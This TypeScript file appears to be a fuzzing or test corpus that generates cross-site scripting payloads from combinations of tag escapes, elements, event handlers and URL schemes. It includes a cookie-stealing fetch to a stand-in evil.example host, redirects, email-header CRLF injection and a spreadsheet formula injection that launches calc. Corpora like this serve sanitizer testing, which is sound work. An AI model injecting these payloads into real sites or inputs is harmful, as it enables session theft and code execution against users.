// Texts that would act if a page let them: every way in (element, attribute, address, comment, encoding) with every act.

const acts = ["alert(1)", "top.location='//evil.example'", "fetch('//evil.example/'+document.cookie)"];
const handlers = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle"];
const elements = [
  "script",
  "img",
  "svg",
  "iframe",
  "object",
  "embed",
  "math",
  "video",
  "audio",
  "details",
  "marquee",
  "body",
  "form",
  "input",
  "link",
  "meta",
  "base",
  "style",
  "template",
  "noscript",
  "xmp",
  "plaintext",
];
/** What ends the place a text stands in. */
const exits = [
  "",
  "</a>",
  "</p></td></table>",
  "</h2>",
  "</select>",
  "*/",
  "?>",
  '\\"',
  '">',
  "'>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</svg>",
  '" ',
  "' ",
  "` ",
  "<!--",
  "<![CDATA[",
  "\u0000",
];
const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "data:text/html,",
  "data:text/html;base64,",
  "vbscript:",
  "blob:",
  "file:///",
  "//evil.example/",
  "javascript&colon;",
  "&#106;avascript:",
  "%6aavascript:",
];

/** Made to be put where a text stands. */
export const textPayloads: readonly string[] = [
  ...exits.flatMap((exit) =>
    elements.map(
      (element, index) => `${exit}<${element} ${handlers[index % handlers.length]}=${acts[index % acts.length]} src=x>`,
    ),
  ),
  ...exits.flatMap((exit) => handlers.map((handler) => `${exit}${handler}="${acts[0]}" x="`)),
  ...exits.map((exit) => `${exit}<script>${acts[1]}</script>`),
  "＜script＞alert(1)＜/script＞",
  "\u003cscript\u003ealert(1)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<<script>script>alert(1)",
  "<svg/onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>@import'//evil.example'</style>",
  "expression(alert(1))",
  "{{7*7}}",
  "${alert(1)}",
  "<%= 7*7 %>",
  "\u202ealert(1)",
  "a\r\nBcc: everyone@example.com",
  "=cmd|' /C calc'!A0",
];

/** Made to be put where an address stands. */
export const addressPayloads: readonly string[] = [
  ...schemes.flatMap((scheme) => [`${scheme}${acts[0]}`, `${scheme}alert(1)//https://good.example/`]),
  ...exits.filter(Boolean).map((exit) => `https://good.example/${exit}<script>alert(1)</script>`),
  ...exits.filter(Boolean).map((exit) => `https://good.example/${exit} onclick=alert(1) x=`),
  "https://user:password@evil.example/",
  "https:evil.example",
  "https://good.example/#:~:text=<script>",
  "ftp://evil.example/",
];
